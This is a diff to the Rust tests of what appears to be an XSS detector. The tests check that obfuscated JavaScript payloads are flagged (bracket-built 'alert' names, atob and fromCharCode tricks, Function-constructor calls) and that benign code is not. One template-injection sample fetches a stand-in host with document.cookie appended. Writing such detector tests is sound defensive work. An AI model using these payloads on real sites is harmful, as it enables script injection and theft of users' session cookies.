@@ -220,27 +220,26 @@ mod tests {
 
     #[test]
     fn built_names_and_the_function_constructor_are_confirmed() {
-        for p in [
-            &b"top['al'+'ert'](1)"[..],
+        let payloads: [&[u8]; 6] = [
+            b"top['al'+'ert'](1)",
             b"window['ale'+'rt'](document.cookie)",
             b"self[atob('ywxlcnq=')](1)",
             b"x=1;parent[\"con\" + \"firm\"]`1`",
             b"window['alert'](1)",
             b"this[string.fromcharcode(97,108,101,114,116)](1)",
-        ] {
-            assert!(built_name_call(p), "{}", String::from_utf8_lossy(p));
-        }
-        for t in [
-            &b"window[name](1)"[..],
+        ];
+        let code: [&[u8]; 7] = [
+            b"window[name](1)",
             b"window['on'+'load'] = init",
             b"window['my'+'handler'](e)",
             b"self['al'+'ert']",
             b"mywindow['al'+'ert'](1)",
             b"window.top[ 'x' ]",
             b"see the top[1] results (2)",
-        ] {
-            assert!(!built_name_call(t), "{}", String::from_utf8_lossy(t));
-        }
+        ];
+        let verdicts = |list: &[&[u8]]| list.iter().map(|p| built_name_call(p)).collect::<Vec<_>>();
+        assert_eq!(verdicts(&payloads), [true; 6]);
+        assert_eq!(verdicts(&code), [false; 7]);
         assert!(constructor_call(b"[].constructor.constructor('alert(1)')()"));
         assert!(constructor_call(b"{{x.constructor.constructor(\"fetch('//e.example?'+document.cookie)\")()}}"));
         assert!(!constructor_call(b"var g = ({}).constructor.constructor('return this')();"));
